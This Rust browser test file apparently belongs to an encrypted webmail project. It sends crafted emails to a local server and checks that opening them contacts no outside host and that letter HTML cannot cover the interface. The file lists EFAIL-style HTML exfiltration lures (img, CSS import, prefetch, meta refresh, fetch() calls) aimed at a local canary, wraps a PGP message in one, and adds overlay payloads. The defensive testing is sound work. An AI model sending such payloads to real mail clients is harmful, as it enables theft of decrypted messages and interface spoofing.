//! Attacks 1 and 5 of the project's list in a real browser: a letter that would carry what stands
//! beside it away (EFAIL), and one that would draw over the program.
//!
//! The unit tests of `core` and `web` generate the classes whole; here a browser shows some of
//! each, and what counts is what leaves the machine and what is on the screen.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use serde_json::Value;

use crate::browser::log_in;
use crate::imap::Imap;
use crate::talk;
use crate::webdriver::Browser;
use crate::world::World;

/// Counts whoever comes.
struct Canary {
    address: String,
    visits: Arc<AtomicUsize>,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Canary {
    fn listen() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        let address = listener.local_addr().expect("its number").to_string();
        let visits = Arc::new(AtomicUsize::new(0));
        let asked = Arc::new(Mutex::new(Vec::new()));
        let (counter, log) = (Arc::clone(&visits), Arc::clone(&asked));
        thread::spawn(move || {
            for stream in listener.incoming() {
                counter.fetch_add(1, Ordering::SeqCst);
                let Ok(mut stream) = stream else { continue };
                drop(stream.set_read_timeout(Some(Duration::from_secs(1))));
                let mut head = [0; 2048];
                let count = stream.read(&mut head).unwrap_or(0);
                let head = String::from_utf8_lossy(&head[..count]).into_owned();
                log.lock().expect("nobody panics").push(head);
                drop(stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"));
            }
        });
        Self {
            address,
            visits,
            asked,
        }
    }

    fn assert_unvisited(&self, what: &str) {
        let asked = self.asked.lock().expect("nobody panics").clone();
        assert_eq!(self.visits.load(Ordering::SeqCst), 0, "{what}: {asked:?}");
    }
}

/// HTML that stands open, or that loads by itself.
fn lures(canary: &str) -> Vec<String> {
    [
        "<img src=\"http://CANARY/",
        "<img srcset=\"http://CANARY/a 1x\" src=x><b title=\"",
        "<style>@import url(http://CANARY/b);body{background:url(http://CANARY/c)}</style>",
        "<link rel=stylesheet href=http://CANARY/d><link rel=prefetch href=http://CANARY/e>\
         <link rel=dns-prefetch href=//CANARY>",
        "<svg><image href=\"http://CANARY/f\"/><use href=\"http://CANARY/g#x\"/></svg>",
        "<iframe src=http://CANARY/h></iframe><object data=http://CANARY/i></object>\
         <embed src=http://CANARY/j>",
        "<video poster=http://CANARY/k src=http://CANARY/l autoplay></video>\
         <audio src=http://CANARY/m autoplay></audio>",
        "<meta http-equiv=refresh content=\"0;url=http://CANARY/n\"><base href=http://CANARY/>\
         <img src=relative>",
        "<div style=\"background-image:url('http://CANARY/o')\">x</div>\
         <table background=http://CANARY/p><tr><td>x</table>",
        "<script>fetch('http://CANARY/q')</script><img src=x onerror=\"fetch('http://CANARY/r')\">\
         <a href=http://CANARY/s ping=http://CANARY/t>x</a>",
    ]
    .map(|lure| lure.replace("CANARY", canary))
    .to_vec()
}

/// A letter of eve's with these parts.
fn mixed(subject: &str, parts: &[String]) -> String {
    let mut raw = format!(
        "From: Eve <eve@elsewhere.example>\r\nTo: alice@letterlock.example\r\nSubject: {subject}\r\n\
         MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=outer\r\n\r\n"
    );
    for part in parts {
        raw.push_str("--outer\r\n");
        raw.push_str(part);
        raw.push_str("\r\n");
    }
    raw + "--outer--\r\n"
}

fn html(content: &str) -> String {
    format!("Content-Type: text/html; charset=utf-8\r\n\r\n{content}")
}

/// An armored part that does not open: what stands around it is what counts here.
fn ciphertext() -> String {
    "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n\
     --b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--b\r\n\
     Content-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\n\
     wV4DAAAAAAAAAAASAQdA\r\n-----END PGP MESSAGE-----\r\n\r\n--b--"
        .to_owned()
}

#[test]
fn attack_01_nothing_leaves_when_a_letter_is_opened() {
    let world = World::start();
    let canary = Canary::listen();
    let alice = world.alice();
    let lures = lures(&canary.address);
    for (number, lure) in lures.iter().enumerate() {
        let parts = [html(lure), ciphertext(), html("\">'></a></style>the end")];
        let raw = mixed(&format!("lure {number}"), &parts);
        talk::deliver(&world.ready().lmtp, &alice.address, raw.as_bytes());
    }
    // The same without parts: as one page.
    let page = format!(
        "From: Eve <eve@elsewhere.example>\r\nTo: {}\r\nSubject: all at once\r\n\
         MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{}<p>the end</p>\r\n",
        alice.address,
        lures.iter().rev().cloned().collect::<String>()
    );
    talk::deliver(&world.ready().lmtp, &alice.address, page.as_bytes());
    Imap::inbox(&world, alice).wait_for("all at once");
    let browser = Browser::start();
    browser.open(&format!("{}/", world.ready().web));
    log_in(&browser, alice);
    let subjects = (0..lures.len()).map(|number| format!("lure {number}"));
    for subject in subjects.chain(["all at once".to_owned()]) {
        browser.click_with("message-row", &subject);
        browser.find_with("message-subject", &subject);
        browser.find("message-body");
        // The frame of the letter has loaded, whatever it would load.
        browser.wait("the letter is drawn", || {
            let drawn = "const body = document.querySelector('[data-testid=\"message-body\"]');\
                         return !!body && body.getBoundingClientRect().height > 0";
            (browser.script(drawn) == Value::Bool(true)).then_some(())
        });
        thread::sleep(Duration::from_millis(300));
        canary.assert_unvisited(&subject);
    }
    // That the canary would have heard: the page's own policy forbids it even to scripts of its
    // own, so this asks from outside of the browser.
    let mut visit = std::net::TcpStream::connect(&canary.address).expect("it listens");
    visit
        .write_all(b"GET / HTTP/1.1\r\n\r\n")
        .expect("it takes");
    let mut heard = Vec::new();
    drop(visit.read_to_end(&mut heard));
    assert!(canary.visits.load(Ordering::SeqCst) > 0);
}

#[test]
fn attack_05_a_letter_draws_in_its_own_frame_alone() {
    let world = World::start();
    let alice = world.alice();
    let over = [
        "<div style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;\
         background:#f0f\">DRAWN OVER</div>",
        "<div style=\"position:absolute;top:-2000px;left:-2000px;width:5000px;height:5000px;\
         background:#f0f\">DRAWN OVER</div>",
        "<div style=\"margin:-3000px;width:6000px;height:6000px;background:#f0f\">DRAWN OVER</div>",
        "<div style=\"transform:translate(-500px,-500px) scale(9);background:#f0f\">DRAWN OVER</div>",
        "</iframe></div><dialog open style=\"background:#f0f\">DRAWN OVER</dialog>",
    ];
    for (number, drawing) in over.iter().enumerate() {
        let raw = format!(
            "From: Eve <eve@elsewhere.example>\r\nTo: {}\r\nSubject: drawing {number}\r\n\
             MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<p>x</p>{drawing}\r\n",
            alice.address
        );
        talk::deliver(&world.ready().lmtp, &alice.address, raw.as_bytes());
    }
    Imap::inbox(&world, alice).wait_for(&format!("drawing {}", over.len() - 1));
    let browser = Browser::start();
    browser.open(&format!("{}/", world.ready().web));
    log_in(&browser, alice);
    for number in 0..over.len() {
        let subject = format!("drawing {number}");
        browser.click_with("message-row", &subject);
        browser.find_with("message-subject", &subject);
        browser.find("message-body");
        // The letter's frame is sandboxed without scripts of its own, lies below the head that says
        // who wrote it, and what is at the head's place is the head.
        let seen = browser.script(
            "const frame = document.querySelector('iframe');\
             const head = document.querySelector('[data-testid=\"protection\"]');\
             const subject = document.querySelector('[data-testid=\"message-subject\"]');\
             const list = document.querySelector('[data-testid=\"message-list\"]');\
             const inner = frame.getBoundingClientRect();\
             const at = (element) => { element.scrollIntoView({ block: 'nearest' });\
               const box = element.getBoundingClientRect();\
               const top = document.elementFromPoint(box.left + 3, box.top + box.height / 2);\
               return element === top || element.contains(top); };\
             return { sandbox: frame.getAttribute('sandbox'),\
               scripts: frame.sandbox.contains('allow-scripts'),\
               below: inner.top >= head.getBoundingClientRect().bottom,\
               beside: inner.left >= list.getBoundingClientRect().right - 1,\
               inside: inner.right <= window.innerWidth + 1,\
               head: at(head), subject: at(subject), frames: document.querySelectorAll('iframe').length,\
               leaked: [...document.querySelectorAll('#reader-head, #reader-body, dialog')]\
                 .some((element) => element.innerText.includes('DRAWN OVER')),\
               dialogs: document.querySelectorAll('dialog').length }",
        );
        browser.screenshot(&format!("drawing-{number}"));
        let is = |name: &str| seen.get(name).and_then(Value::as_bool);
        for yes in ["below", "beside", "inside", "head", "subject"] {
            assert_eq!(is(yes), Some(true), "{subject}, {yes}: {seen}");
        }
        assert!(
            seen.get("sandbox").is_some_and(Value::is_string),
            "{subject}: {seen}"
        );
        assert_eq!(is("scripts"), Some(false), "{subject}: {seen}");
        assert_eq!(is("leaked"), Some(false), "{subject}: {seen}");
        let number_of = |name: &str| seen.get(name).and_then(Value::as_u64);
        assert_eq!(number_of("frames"), Some(1), "{subject}: {seen}");
        assert_eq!(number_of("dialogs"), Some(0), "{subject}: {seen}");
    }
}
